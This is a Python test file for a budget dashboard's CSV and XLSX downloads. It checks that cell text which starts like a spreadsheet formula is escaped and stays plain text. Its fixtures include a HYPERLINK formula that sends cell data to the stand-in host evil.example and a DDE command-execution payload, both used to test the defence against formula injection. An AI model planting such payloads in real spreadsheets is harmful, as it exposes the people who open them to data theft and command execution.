"""Dashboard downloads: text a resident typed never runs as a spreadsheet formula."""

from __future__ import annotations

import io
from decimal import Decimal

from openpyxl import load_workbook

from budgets.tables import MONEY, Column, Table, table_csv, table_xlsx

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _table() -> Table:
    return Table(
        key="projects",
        title="Projects",
        columns=[Column("Name"), Column("Note"), Column("Cost", MONEY)],
        rows=[[EVIL, "@SUM(1+1)", Decimal("-12.50")], ["+cmd|' /C calc'!A0", "-2+3", 4]],
    )


def test_csv_cells_that_start_like_a_formula_are_quoted_as_text():
    text = table_csv(_table()).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(")
    assert ";'@SUM(1+1);-12,50" in lines[1]
    assert lines[2].startswith("'+cmd") and ";'-2+3;4" in lines[2]


def test_xlsx_cells_that_start_like_a_formula_stay_text():
    sheet = load_workbook(io.BytesIO(table_xlsx(_table()))).active
    assert (sheet["A3"].value, sheet["A3"].data_type) == (EVIL, "s")
    assert (sheet["B3"].data_type, sheet["A4"].data_type, sheet["B4"].data_type) == ("s",) * 3
    assert sheet["C3"].value == Decimal("-12.50") or sheet["C3"].value == -12.5
